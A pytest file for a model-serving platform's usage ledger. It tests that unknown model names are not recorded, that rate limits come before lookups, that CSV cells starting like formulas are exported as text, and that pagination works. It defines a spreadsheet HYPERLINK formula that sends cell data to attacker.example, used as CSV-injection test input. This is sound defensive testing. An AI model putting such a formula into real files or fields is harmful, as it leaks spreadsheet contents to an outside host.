"""The usage ledger holds what the platform did, never what a caller wrote.

A request for a model its tenant does not have was recorded under the caller's ``model``
string before its 404, and without the tenant's rate check: random names made unbounded
groups, and ``=HYPERLINK(...)`` landed in the operators' ``usage.csv``.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest

from apps.serving.node import openai_protocol as oai
from apps.serving.node.admission import Admission
from apps.serving.node.lookups import Caller
from apps.serving.node.metrics import NodeMetrics
from apps.serving.node.record import RequestTrace
from apps.serving.node.requests import RequestPath
from apps.telemetry import usage
from apps.telemetry.models import RequestRollup
from tests.helpers import key_client

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


class NoAliases:
    """The node's lookups for a tenant with no aliases at all (pure: the rule under test is
    the order of the request path's steps)."""

    def cached_alias(self, tenant_id: int, name: str) -> None:
        return None  # known: no such alias


class Rows:
    def __init__(self) -> None:
        self.rows: list = []

    def record(self, row) -> None:
        self.rows.append(row)


def request_path(stats: Rows) -> RequestPath:
    engine = SimpleNamespace(settings=SimpleNamespace(served_model_name="base-model"))
    return RequestPath(
        engine=engine,  # type: ignore[arg-type]
        lookups=NoAliases(),  # type: ignore[arg-type]
        trust=None,  # type: ignore[arg-type]
        admission=Admission(max_concurrent=2, max_queue=2),
        cache=None,  # type: ignore[arg-type]
        config=None,  # type: ignore[arg-type]
        metrics=NodeMetrics(),
        stats=stats,  # type: ignore[arg-type]
    )


def ask(path: RequestPath, model: str, rpm: int) -> int:
    caller = Caller(
        key_prefix="p", tenant_id=7, tenant_slug="acme", priority=1, requests_per_minute=rpm
    )
    trace = RequestTrace(caller=caller)

    async def resolve() -> int:
        try:
            await path.resolve(trace, model, "key")
        except oai.ApiError as exc:
            return path._error(exc, trace).status_code
        return 200

    return asyncio.run(resolve())


def test_an_unknown_model_is_never_recorded_under_the_callers_name():
    stats = Rows()
    path = request_path(stats)
    assert ask(path, FORMULA, rpm=100) == 404
    assert ask(path, "random-name-1234", rpm=100) == 404
    assert stats.rows == []  # no statistics row, so no usage group
    # the node's metrics still count them, under bounded labels
    sample = path.metrics.requests.labels(tenant="acme", adapter="none", outcome="caller_error")
    assert sample._value.get() == 2


def test_the_tenants_rate_comes_before_the_lookups_answer():
    path = request_path(Rows())
    assert ask(path, "no-such-model-1", rpm=1) == 404
    # the second name costs a request too: the rate answers before the lookup
    assert ask(path, "no-such-model-2", rpm=1) == 429


@pytest.mark.django_db
def test_csv_cells_that_start_like_a_formula_are_shown_as_text(tenant_a):
    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=1)
    for alias in (FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "plain"):
        RequestRollup.objects.create(
            tenant=tenant_a,
            alias=alias,
            adapter_id="",
            version="",
            start=hour,
            step_s=3600,
            requests=1,
        )
    answer = key_client(tenant_a).get(
        "/api/usage.csv", {"from": hour.isoformat(), "group_by": "alias"}
    )
    assert answer.status_code == 200
    aliases = {row["alias"] for row in csv.DictReader(io.StringIO(answer.content.decode()))}
    assert aliases == {"'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "plain"}
    # numbers stay numbers, negative or not
    assert usage.cell(-3) == -3


@pytest.mark.django_db
def test_the_usage_api_pages_its_rows(tenant_a):
    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
    for index in range(5):
        RequestRollup.objects.create(
            tenant=tenant_a,
            alias=f"a{index}",
            adapter_id="",
            version="",
            start=hour,
            step_s=3600,
            requests=index + 1,
        )
    client = key_client(tenant_a)
    window = {"from": hour.isoformat(), "group_by": "alias", "granularity": "hour"}
    first = client.get("/api/usage", {**window, "limit": 2}).json()
    assert [r["alias"] for r in first["rows"]] == ["a0", "a1"]
    assert first["next_offset"] == 2
    last = client.get("/api/usage", {**window, "limit": 2, "offset": 4}).json()
    assert [r["alias"] for r in last["rows"]] == ["a4"] and last["next_offset"] is None
    csv_page = client.get("/api/usage.csv", {**window, "limit": 3})
    assert csv_page["X-Next-Offset"] == "3"
    too_many = client.get("/api/usage", {**window, "limit": 100_000})
    assert too_many.status_code == 422
    assert "between 1 and 5000" in too_many.json()["detail"]
    too_long = client.get("/api/usage", {"from": "2020-01-01", "to": "2026-01-01"})
    assert too_long.status_code == 422
    assert "at most 366 days" in too_long.json()["detail"]
